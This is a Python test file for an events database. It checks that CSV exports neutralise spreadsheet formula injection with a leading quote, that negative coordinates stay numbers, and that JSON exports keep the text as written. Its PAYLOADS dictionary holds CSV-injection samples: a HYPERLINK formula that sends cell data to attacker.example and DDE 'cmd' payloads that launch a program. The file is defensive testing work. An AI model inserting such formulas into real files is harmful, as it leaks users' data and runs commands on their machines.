"""CSV cells that a spreadsheet would run as a formula are neutralised (OWASP: a leading
single quote); numbers stay numbers and the JSON exports keep the text as written."""

import csv
import io
import json

import pytest

from events import exports
from events.text import FORMULA_TRIGGERS
from tests.factories import (
    ActorFactory,
    CitationFactory,
    EventActorFactory,
    EventFactory,
    PlaceFactory,
    SourceFactory,
    editor,
    published_claim,
    reviewer,
)

SITE = "http://testserver"
PAYLOADS = {
    "=": '=HYPERLINK("https://attacker.example/?"&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1,2)",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def test_every_trigger_has_a_payload():
    assert set(PAYLOADS) == set(FORMULA_TRIGGERS)


@pytest.fixture
def record(db):
    author, approver = editor("csv-editor"), reviewer("csv-reviewer")
    place = PlaceFactory(name="=Place", region="@Region", latitude=-12.5, longitude=-1.25)
    event = EventFactory(title="-Event title", summary="+Summary", place=place)
    EventActorFactory(event=event, actor=ActorFactory(name="=Actor"))
    citation = CitationFactory(source=SourceFactory(name="@Outlet"), title="=Title")
    claims = {
        trigger: published_claim(
            author=author,
            approver=approver,
            event=event,
            citation=citation,
            text=payload,
            claimant_label=payload,
            figure_unit=payload,
        )
        for trigger, payload in PAYLOADS.items()
    }
    return claims


def parsed(chunks):
    return list(csv.DictReader(io.StringIO("".join(chunks).removeprefix("\ufeff"))))


@pytest.mark.parametrize("trigger", sorted(PAYLOADS))
def test_claims_csv_neutralises_each_formula_prefix(record, trigger):
    claim = record[trigger]
    row = next(row for row in parsed(exports.claims_csv(SITE)) if row["claim_id"] == str(claim.pk))
    for column in ("claim", "claimant", "figure_unit"):
        assert row[column] == "'" + PAYLOADS[trigger]


def test_no_text_cell_of_either_csv_starts_a_formula(record):
    for columns, writer in (
        (exports.EVENT_COLUMNS, exports.events_csv),
        (exports.CLAIM_COLUMNS, exports.claims_csv),
    ):
        rows = parsed(writer(SITE))
        assert rows
        for row in rows:
            for column in columns:
                if column not in exports.NUMBER_COLUMNS:
                    assert not row[column].startswith(FORMULA_TRIGGERS), (column, row[column])


def test_negative_coordinates_stay_numbers(record):
    (event_row,) = parsed(exports.events_csv(SITE))
    assert (event_row["latitude"], event_row["longitude"]) == ("-12.5", "-1.25")
    assert (event_row["location"], event_row["admin1"], event_row["actor1"]) == (
        "'=Place",
        "'@Region",
        "'=Actor",
    )
    assert event_row["title"] == "'-Event title"
    assert event_row["notes"] == "'+Summary"
    assert event_row["source"] == "'@Outlet"
    for row in parsed(exports.claims_csv(SITE)):
        assert row["longitude"] == "-1.25"


def test_json_exports_keep_the_text_as_written(record):
    claims = json.loads("".join(exports.claims_json(SITE)))
    assert sorted(claim["claim"] for claim in claims) == sorted(PAYLOADS.values())
    (event,) = json.loads("".join(exports.events_json(SITE)))
    assert (event["title"], event["notes"], event["longitude"]) == (
        "-Event title",
        "+Summary",
        -1.25,
    )
